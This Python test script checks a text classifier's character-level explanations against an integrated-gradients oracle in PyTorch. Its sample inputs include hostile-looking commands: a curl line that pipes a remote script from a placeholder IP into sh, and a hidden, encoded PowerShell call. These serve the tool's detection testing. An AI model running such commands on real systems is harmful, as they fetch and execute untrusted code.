"""Holds `txtsentry explain` to integrated gradients by PyTorch's own differentiation.

Usage: python3 explain_parity.py --txtsentry BINARY --model FOLDER [--points N]

The oracle loads what `txtsentry model export` writes with the notebook's code, in float64, takes
the gradient of the logit by the embedded tokens at N midpoints between no embedding and the whole,
and shares each token's part over its characters. Where the oracle's own sum is within 0.2 % of the
logit's difference (an LSTM that latches turns more sharply than equal steps can see), each
character's contribution is within 3 % of that difference. Everywhere the logits are those of
PyTorch and the contributions and the residual add up.
"""

import argparse
import json
import pathlib
import subprocess
import sys
import tempfile
import warnings

import notebook_pair_check
import torch

warnings.filterwarnings("ignore", message="dropout option adds dropout")

# Plain ASCII without quotes and without the patterns of the nine replacements, so that a character
# of a word is a character of the record.
TEXTS = ["a", "hello world", "powershell /w hidden /enc SQBFAFgAIAAoAE4AZQB3AC0A",
         "The quick brown fox jumps over the lazy dog", "b10a8db164e0754105b7a99be72e3fe5",
         "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAA", "v=spf1 ~all", "MS=ms52917034",
         "k=v1;token=0123456789abcdef", "curl http://198.51.100.7/x.sh | sh",
         "v=spf1 include:_spf.example.com ip4:192.0.2.0/24 ~all",
         # Short ones, which no model latches on.
         "ab", "x7", "zz zz", "iex"]
SHARP = 0.002
BOUND = 0.03
CHUNK = 128


def spans(text):
    """(first, end) of each n-gram in the text, as CountVectorizer's char_wb goes about it."""
    found = []
    at = 0
    for word in text.split(" "):
        for n in range(2, 5):
            count = max(1, len(word) + 2 - n + 1)
            for o in range(count):
                found.append((at + max(0, o - 1), at + min(len(word), o + n - 1)))
            if count == 1:
                break
        at += len(word) + 1
    return found


def export(txtsentry, model, folder):
    subprocess.run([txtsentry, "model", "export", model, folder], check=True,
                   stdout=subprocess.DEVNULL)
    model, vocab = notebook_pair_check.load(str(folder))
    return model.double(), vocab


def logits(model, embedded):
    _, (hidden, _) = model.lstm(embedded)
    return model.fc2(hidden[-1])[:, 0]


def oracle(model, vocab, text, points):
    """(logit, baseline logit, contributions by character)."""
    lowered = notebook_pair_check.preprocess_text(text)
    assert len(lowered) == len(text)
    tokens = notebook_pair_check.tokenize(lowered)
    where = spans(lowered)
    assert tokens == [lowered[first:end] for first, end in where]
    ids = torch.tensor(notebook_pair_check.get_token_index(lowered, vocab))
    with torch.no_grad():
        whole = model.embedding(ids)
        ends = logits(model, torch.stack([whole, torch.zeros_like(whole)]))
    attributions = torch.zeros(len(tokens), dtype=torch.float64)
    scales = (torch.arange(points, dtype=torch.float64) + 0.5) / points
    for chunk in scales.split(CHUNK):
        embedded = (chunk[:, None, None] * whole).requires_grad_()
        logits(model, embedded).sum().backward()
        attributions += (embedded.grad.sum(0) * whole).sum(1) / points
    characters = [0.0] * len(text)
    for (first, end), attribution in zip(where, attributions.tolist()):
        for i in range(first, end):
            characters[i] += attribution / (end - first)
    return ends[0].item(), ends[1].item(), characters


def explain(txtsentry, model, text):
    ran = subprocess.run([txtsentry, "explain", "--model", model, "-f", "json", "--", text],
                         stdout=subprocess.PIPE, check=True)
    found = json.loads(ran.stdout)["explanation"]
    characters = [0.0] * len(text)
    for part in found["contributions"]:
        assert part["length_bytes"] == 1
        characters[part["offset_bytes"]] = part["logit"]
    return found, characters


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--txtsentry", required=True)
    parser.add_argument("--model", required=True)
    parser.add_argument("--points", type=int, default=1024)
    arguments = parser.parse_args()
    if not pathlib.Path(arguments.model).is_dir():
        print(f"SKIPPED: no model in {arguments.model}")
        sys.exit(77)
    torch.set_num_threads(1)
    with tempfile.TemporaryDirectory() as folder:
        model, vocab = export(arguments.txtsentry, arguments.model, pathlib.Path(folder) / "pair")
    compared = 0
    for number, text in enumerate(TEXTS):
        logit, baseline, expected = oracle(model, vocab, text, arguments.points)
        found, characters = explain(arguments.txtsentry, arguments.model, text)
        difference = abs(logit - baseline)
        assert abs(found["logit"] - logit) < 1e-5, f"text {number}: logit {logit}"
        assert abs(found["baseline_logit"] - baseline) < 1e-5, f"text {number}: {baseline}"
        left = found["logit"] - found["baseline_logit"] - sum(characters) - found["residual"]
        assert abs(left) < 1e-4, f"text {number}: {left} is missing from the sum"
        assert abs(found["residual"]) <= max(1e-3, 0.01 * difference) + 1e-6, f"text {number}"
        off = abs(sum(expected) - (logit - baseline))
        if off > max(1e-4, SHARP * difference):
            print(f"text {number}: too sharp for the oracle, whose sum is off by {off:.2g}")
            continue
        worst = max(abs(a - b) for a, b in zip(characters, expected))
        print(f"text {number}: difference {difference:.3f}, largest error of a character "
              f"{worst:.2g}, of the oracle's sum {off:.2g}")
        assert worst <= max(1e-3, BOUND * difference), f"text {number}: off by {worst}"
        compared += 1
    assert compared >= 5, f"only {compared} texts compared"
    print(f"{compared} of {len(TEXTS)} texts compared, all add up")


if __name__ == "__main__":
    main()
